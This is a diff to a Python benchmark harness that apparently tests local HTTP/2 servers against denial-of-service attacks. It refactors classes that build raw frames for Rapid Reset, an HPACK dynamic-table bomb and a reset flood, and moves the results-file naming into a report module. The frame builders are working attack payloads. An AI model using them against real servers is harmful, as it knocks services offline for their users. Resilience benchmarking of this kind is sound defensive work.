@@ -61,6 +61,7 @@ import time
 import urllib.request
 from pathlib import Path
 
+from bench import report
 from bench.backend import Backend
 from bench.contenders import Contender, DeployContext, all_contenders
 from bench.processes import Placement, ProcessRegistry, free_port
@@ -142,23 +143,35 @@ class NoAttack(Attack):
         return b""
 
 
-class RapidReset(Attack):
+class StreamAttack(Attack):
+    """An attack of new streams, `per_batch` at a time, each made of `frames(stream)`."""
     unit = "streams"
+    per_batch = 1
 
     def opening(self) -> bytes:
         self.stream = 1
         return HELLO
 
+    def frames(self, stream: int) -> bytes:
+        raise NotImplementedError
+
     def batch(self) -> bytes:
         out = []
-        for _ in range(50):
-            out.append(frame(HEADERS, END_STREAM | END_HEADERS, self.stream, GET))
-            out.append(frame(RST_STREAM, 0, self.stream, struct.pack(">I", CANCEL)))
+        for _ in range(self.per_batch):
+            out.append(self.frames(self.stream))
             self.stream += 2
         return b"".join(out)
 
     def count(self, batch: bytes) -> None:
-        self.sent += 50
+        self.sent += self.per_batch
+
+
+class RapidReset(StreamAttack):
+    per_batch = 50
+
+    def frames(self, stream: int) -> bytes:
+        return (frame(HEADERS, END_STREAM | END_HEADERS, stream, GET)
+                + frame(RST_STREAM, 0, stream, struct.pack(">I", CANCEL)))
 
 
 class ContinuationFlood(Attack):
@@ -175,22 +188,12 @@ class ContinuationFlood(Attack):
         self.sent += len(batch) / 2**20
 
 
-class HpackBomb(Attack):
-    unit = "streams"
+class HpackBomb(StreamAttack):
     FIELD = literal(b"x-bomb", b"a" * 4000, indexed=True)   # dynamic table index 62
 
-    def opening(self) -> bytes:
-        self.stream = 1
-        return HELLO
-
-    def batch(self) -> bytes:
-        block = GET + (self.FIELD + b"\xbe" * 12000 if self.stream == 1 else b"\xbe" * 16000)
-        out = frame(HEADERS, END_STREAM | END_HEADERS, self.stream, block)
-        self.stream += 2
-        return out
-
-    def count(self, batch: bytes) -> None:
-        self.sent += 1
+    def frames(self, stream: int) -> bytes:
+        block = GET + (self.FIELD + b"\xbe" * 12000 if stream == 1 else b"\xbe" * 16000)
+        return frame(HEADERS, END_STREAM | END_HEADERS, stream, block)
 
 
 class ControlFlood(Attack):
@@ -207,25 +210,13 @@ class ControlFlood(Attack):
         self.sent += 1000
 
 
-class ResetFlood(Attack):
+class ResetFlood(StreamAttack):
     """Requests the server must refuse (a connection-specific header), unread refusals."""
     reads = False
-    unit = "streams"
+    per_batch = 100
 
-    def opening(self) -> bytes:
-        self.stream = 1
-        return HELLO
-
-    def batch(self) -> bytes:
-        out = []
-        for _ in range(100):
-            out.append(frame(HEADERS, END_STREAM | END_HEADERS, self.stream,
-                             GET + literal(b"connection", b"close")))
-            self.stream += 2
-        return b"".join(out)
-
-    def count(self, batch: bytes) -> None:
-        self.sent += 100
+    def frames(self, stream: int) -> bytes:
+        return frame(HEADERS, END_STREAM | END_HEADERS, stream, GET + literal(b"connection", b"close"))
 
 
 class EmptyFrames(Attack):
@@ -545,16 +536,6 @@ def render_markdown(run_record: dict, figures: dict[str, dict]) -> str:
     return "\n".join(lines)
 
 
-def _results_file(parent: Path) -> Path:
-    parent.mkdir(parents=True, exist_ok=True)
-    stamp = datetime.datetime.now().strftime("%Y%m%d-%H%M%S")
-    path, n = parent / f"{stamp}-attacks.md", 1
-    while path.exists():
-        n += 1
-        path = parent / f"{stamp}-{n}-attacks.md"
-    return path
-
-
 def _names(values: list[str] | None, known, what: str, parser: argparse.ArgumentParser) -> list[str]:
     names = [n.strip() for value in values or [] for n in value.split(",") if n.strip()]
     unknown = [n for n in names if n not in known]
@@ -617,7 +598,7 @@ def main(argv: list[str] | None = None) -> int:
         shutil.rmtree(workdir, ignore_errors=True)
     run_record["load_average_at_end"] = load_average()
     markdown = render_markdown(run_record, figures)
-    path = _results_file(args.results_dir)
+    path = report.dated_results_file(args.results_dir, "attacks")
     path.write_text(markdown)
     print("\n" + markdown)
     print(f"results: {path}")
